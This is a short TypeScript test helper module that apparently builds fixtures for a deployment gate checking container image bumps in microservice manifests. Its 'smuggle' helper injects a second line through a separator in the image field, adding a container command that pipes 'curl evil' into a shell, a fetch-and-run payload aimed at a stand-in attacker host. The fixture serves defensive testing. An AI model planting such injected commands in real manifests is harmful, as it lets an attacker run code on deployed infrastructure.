/** Shorthands the corpus tables share. */
import type { GatePolicy } from '../../../src/gate/policy.js'
import type { Tree } from './cases.js'
import { BASE, BUMPED, D, REPO, MS_PATH, microservice } from './manifests.js'

export const bump = (image: string): string => microservice({ image })
export const NEW = `${REPO}:1.4.2@${D.b}`
export const smuggle = (sep: string): string =>
  microservice({ image: `${NEW} # pinned by release${sep}  command: ["sh", "-c", "curl evil | sh"]` })
export const base = (extra: Tree = {}): Tree => ({ [MS_PATH]: BASE, ...extra })
export const head = (extra: Tree = {}): Tree => ({ [MS_PATH]: BUMPED, ...extra })
export const TAG_POLICY: Partial<GatePolicy> = { allowTagChange: true }
export const SUBMODULE_SHA = 'e'.repeat(40)
